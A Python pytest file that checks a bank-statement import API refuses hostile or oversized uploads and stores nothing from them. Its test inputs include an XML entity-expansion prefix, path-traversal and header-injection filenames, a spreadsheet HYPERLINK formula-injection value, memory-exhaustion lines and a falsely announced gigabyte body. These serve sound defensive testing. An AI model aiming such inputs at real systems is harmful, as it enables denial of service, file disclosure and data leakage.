"""Files that were made to do harm, or are too much: refused cleanly, and nothing is kept of them."""

from __future__ import annotations

import json
import socket
from collections.abc import Callable, Iterator

import pytest
import requests
from apiflask import APIFlask
from flask.testing import FlaskClient

from tests.support.accounts import Account, Headers
from tests.support.imports import IMPORT, IMPORTS, Importer
from tests.support.served import Replica
from tests.support.statements import bt_csv, camt053, entry, ofx, stmttrn

BOMB = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
SMALL = 100_000


@pytest.fixture
def ana(
    app: APIFlask, client: FlaskClient, make_user: Callable[..., Account], sign_in: Callable[..., Headers]
) -> Importer:
    account = make_user()
    return Importer(app, client, account, sign_in(account))


def nothing_kept(person: Importer) -> bool:
    return person.get(IMPORTS)["items"] == [] and person.rows() == []


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (b"", "a.csv"), (b" \r\n", "a.csv"), (b"%PDF-1.7 ...", "a.pdf"), (b"PK\x03\x04aa", "a.xlsx"),
        (b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", "a.csv"), (bytes(range(256)) * 40, "a.csv"),
        (b"hello there", "a.txt"), (bt_csv("a\0b," * 9_000).encode(), "a.csv"),
        (camt053(entry("1.00")).replace("<Document", BOMB + "<Document").encode(), "a.xml"),
        (ofx(stmttrn("1.00")).replace("<OFX>", BOMB + "<OFX>").encode(), "a.ofx"),
        (camt053("<a>" * 50_000).encode(), "a.xml"),
    ],
)  # fmt: skip
def test_what_is_no_statement_is_refused_and_not_kept(ana: Importer, content: bytes, name: str) -> None:
    answer = ana.bring(content, name)
    assert (answer.status_code, answer.mimetype) == (422, "application/problem+json")
    assert answer.json["code"] == "unreadable_statement"
    assert nothing_kept(ana)


@pytest.mark.parametrize(
    "filename", ["a\0b.csv", "../../etc/passwd", "ț" * 5_000, "", '<b>"x"\r\nSet-Cookie: a']
)
def test_any_filename_is_only_a_name(ana: Importer, filename: str) -> None:
    content, headers = (
        bt_csv("2026-01-05,2026-01-05,X,R,-1.00,,"),
        {**ana.headers, "Content-Type": "text/csv"},
    )
    query = {"filename": filename}
    answer = ana.client.post(IMPORT, data=content.encode(), query_string=query, headers=headers)
    assert answer.status_code == 201
    assert len(answer.json["filename"]) <= 200
    assert "\0" not in answer.json["filename"]


def test_a_form_without_a_file_and_a_json_body_are_told_what_to_send(ana: Importer) -> None:
    empty = ana.client.post(
        IMPORT, data={"mapping": "{}"}, content_type="multipart/form-data", headers=ana.headers
    )
    as_json = ana.client.post(IMPORT, json={"file": "x"}, headers=ana.headers)
    wrong = ana.bring(bt_csv("2026-01-05,2026-01-05,X,R,-1.00,,"), format="xlsx")
    assert [each.status_code for each in (empty, as_json, wrong)] == [422, 415, 422]
    assert [each.json["errors"][0]["pointer"] for each in (empty, wrong)] == ["file", "format"]
    assert nothing_kept(ana)


def test_a_formula_is_kept_as_the_text_that_it_is(ana: Importer) -> None:
    formula = '=HYPERLINK("http://example.org?"&A1)'
    quoted = formula.replace('"', '""')
    seen = ana.preview(bt_csv(f'2026-01-05,2026-01-05,"{quoted}",R,-1.00,,'))
    assert seen["rows"][0]["description"] == formula
    ana.commit(seen["id"])
    assert [row.description for row in ana.rows()] == [formula]


@pytest.mark.parametrize("bomb", ["x" * 5_000_000, "," * 1_000_000, '"' + "y" * 3_000_000, "\n" * 1_000_000])
def test_a_line_made_to_fill_the_memory_costs_only_itself(ana: Importer, bomb: str) -> None:
    good = "2026-01-06,2026-01-06,Y,R,-2.00,,"
    seen = ana.preview(bt_csv(good, bomb))
    assert (seen["new"], seen["problem_count"]) == (1, 1)
    assert len(json.dumps(seen)) < 20_000
    done = ana.commit(seen["id"])
    assert (done["state"], done["new"], done["problem_count"]) == ("done", 1, 1)


def test_only_so_many_problems_are_told_but_all_are_counted(ana: Importer) -> None:
    seen = ana.preview(bt_csv(*["2026-02-30,2026-01-06,Y,R,-2.00,,"] * 300))
    assert (len(seen["problems"]), seen["problem_count"]) == (50, 300)
    assert len(ana.commit(seen["id"])["problems"]) == 50


@pytest.mark.settings(max_import_bytes=SMALL)
def test_a_file_over_the_limit_is_too_large(ana: Importer) -> None:
    row = "2026-01-06,2026-01-06,Y,R,-2.00,,"
    fits, over = bt_csv(*[row] * 2_000), bt_csv(*[row] * 5_000)
    assert ana.bring(fits).status_code == 201
    raw = ana.client.post(IMPORT, data=over, headers={**ana.headers, "Content-Type": "text/csv"})
    assert [ana.bring(over).status_code, raw.status_code] == [413, 413]
    assert raw.mimetype == "application/problem+json"
    assert len(ana.get(IMPORTS)["items"]) == 1


class TestOnTheWire:
    """What only a real server can show."""

    @pytest.mark.settings(max_import_bytes=SMALL)
    def test_a_gigabyte_that_is_announced_is_refused_before_it_is_read(
        self, ana: Importer, replica: Replica
    ) -> None:
        with socket.create_connection(("127.0.0.1", replica.port), timeout=20) as line:
            line.sendall(request_head(ana, "Content-Length: 1073741824"))
            assert line.recv(4096).startswith(b"HTTP/1.1 413")
        assert requests.get(f"{replica.url}/api/health", timeout=20).status_code == 200
        assert nothing_kept(ana)

    @pytest.mark.settings(max_import_bytes=SMALL)
    def test_a_file_in_chunks_is_read_up_to_the_limit(self, ana: Importer, replica: Replica) -> None:
        url, headers = f"{replica.url}{IMPORT}", {**ana.headers, "Content-Type": "text/csv"}
        row = "2026-01-06,2026-01-06,Y,R,-2.00,,"
        fits = requests.post(url, data=parts(bt_csv(row, row)), headers=headers, timeout=20)
        over = requests.post(url, data=parts(bt_csv(*[row] * 5_000)), headers=headers, timeout=20)
        assert (fits.status_code, over.status_code) == (201, 413)
        assert fits.json()["new"] == 2


def request_head(person: Importer, more: str) -> bytes:
    lines = [f"POST {IMPORT} HTTP/1.1", "Host: x", "Content-Type: text/csv", more]
    lines += [f"{name}: {value}" for name, value in person.headers.items()]
    return ("\r\n".join(lines) + "\r\n\r\n").encode()


def parts(text: str) -> Iterator[bytes]:
    data = text.encode()
    return (data[at : at + 1_000] for at in range(0, len(data), 1_000))
